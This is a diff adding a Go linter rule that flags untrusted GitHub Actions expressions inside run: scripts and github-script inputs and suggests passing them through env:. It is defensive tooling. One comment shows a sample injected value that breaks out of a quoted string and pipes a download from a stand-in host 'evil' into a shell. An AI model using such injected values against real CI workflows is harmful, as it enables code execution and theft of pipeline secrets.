@@ -1,0 +1,154 @@
+package audit
+
+import (
+	"fmt"
+	"strings"
+
+	"github.com/goccy/go-yaml/ast"
+)
+
+// untrustedContexts are the context paths whose values a caller, a pull
+// request author or an earlier step controls. "*" matches any one property.
+// An expression naming one of them, or a whole object containing one (such
+// as `toJSON(github)`), is flagged inside scripts. Other contexts
+// (github.run_id, runner.temp, matrix.*, env.*) are fine.
+var untrustedContexts = []struct {
+	path []string
+	what string
+}{
+	{[]string{"inputs"}, "workflow input"},
+	{[]string{"github", "event"}, "event payload"},
+	{[]string{"github", "head_ref"}, "pull request head branch name"},
+	{[]string{"steps", "*", "outputs"}, "step output"},
+	{[]string{"needs", "*", "outputs"}, "job output"},
+}
+
+// githubScriptAction runs its `script:` input as JavaScript, so expressions
+// there are injections too.
+const githubScriptAction = "actions/github-script"
+
+// expressionInjection refuses untrusted `${{ }}` expressions inside `run:`
+// scripts and actions/github-script `script:` inputs. GitHub substitutes the
+// expression into the script text before the shell (or node) runs it, so a
+// value such as `main"; curl evil | sh; "` becomes code. The value must go
+// through `env:` and be read as "$NAME".
+//
+// https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections
+type expressionInjection struct {
+	ruleBase
+}
+
+func newExpressionInjection(file string) *expressionInjection {
+	return &expressionInjection{ruleBase{file: file, info: Rule{
+		Name:        "expression-injection",
+		Description: "no inputs.*, github.event.*, github.head_ref, steps.*.outputs.* or needs.*.outputs.* expression inside run: or github-script script:",
+		URL:         "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections",
+	}}}
+}
+
+// VisitStep checks the step's script, if any.
+func (r *expressionInjection) VisitStep(s *stepNode) {
+	if n := s.get("run"); n != nil {
+		r.checkScript(s.doc, n, "run:", shellReference)
+	}
+	name, _, _ := strings.Cut(s.uses(), "@")
+	if strings.EqualFold(strings.TrimSpace(name), githubScriptAction) {
+		if n := s.with("script"); n != nil {
+			r.checkScript(s.doc, n, "script:", jsReference)
+		}
+	}
+}
+
+func shellReference(env string) string { return `"$` + env + `"` }
+func jsReference(env string) string    { return "process.env." + env }
+
+// checkScript reports every untrusted expression of the script n at its own
+// line and column.
+func (r *expressionInjection) checkScript(doc *document, n ast.Node, where string, reference func(string) string) {
+	raw, start, ok := rawScalar(n)
+	exprs := findExpressions(raw)
+	if !ok || len(exprs) == 0 {
+		// Not a plain scalar, or the expression only appears after YAML
+		// escapes are decoded: report at the value itself.
+		raw, ok = scalarText(n), false
+		exprs = findExpressions(raw)
+	}
+	for _, e := range exprs {
+		path, what := untrustedPath(e.Inner)
+		if path == nil {
+			continue
+		}
+		p := posOf(n)
+		if ok {
+			if q := advance(start, raw[:e.Offset]); doc.startsAt(q, "${{") {
+				p = q
+			}
+		}
+		env := envName(path)
+		r.reportAt(p,
+			fmt.Sprintf("pass it through env: and use %s (env: %s: %s)", reference(env), env, compact(e.Source())),
+			"%s is pasted into the %s script before it runs, so %s can inject code",
+			compact(e.Source()), where, what)
+	}
+}
+
+// untrustedPath returns the first context path of expr that matches
+// untrustedContexts, and a phrase naming it for messages.
+func untrustedPath(expr string) ([]string, string) {
+	for _, chain := range contextPaths(expr) {
+		for _, u := range untrustedContexts {
+			if matchesContext(chain, u.path) {
+				dotted := strings.Join(chain, ".")
+				if len(chain) < len(u.path) {
+					return chain, dotted + " (which holds the " + u.what + ")"
+				}
+				return chain, "the " + u.what + " " + dotted
+			}
+		}
+	}
+	return nil, ""
+}
+
+// matchesContext reports whether chain reads pattern or an object that
+// contains it (chain is a prefix of pattern).
+func matchesContext(chain, pattern []string) bool {
+	for i := 0; i < len(chain) && i < len(pattern); i++ {
+		if pattern[i] != "*" && chain[i] != pattern[i] {
+			return false
+		}
+	}
+	return true
+}
+
+// envName derives an environment variable name from a context path:
+// inputs.quadrants_ref -> QUADRANTS_REF.
+func envName(path []string) string {
+	last := path[len(path)-1]
+	for i := len(path) - 1; i >= 0 && last == "*"; i-- {
+		last = path[i]
+	}
+	var b strings.Builder
+	for _, c := range strings.ToUpper(last) {
+		if (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') {
+			b.WriteRune(c)
+		} else {
+			b.WriteByte('_')
+		}
+	}
+	name := b.String()
+	// GITHUB_* names are reserved for the runner; a leading digit is invalid.
+	if name == "" || (name[0] >= '0' && name[0] <= '9') || strings.HasPrefix(name, "GITHUB") {
+		name = "VALUE_" + name
+	}
+	return name
+}
+
+// compact shortens an expression for a one-line message.
+func compact(s string) string {
+	s = strings.Join(strings.Fields(s), " ")
+	const limit = 80
+	if r := []rune(s); len(r) > limit {
+		s = string(r[:limit-3]) + "..."
+	}
+	return s
+}
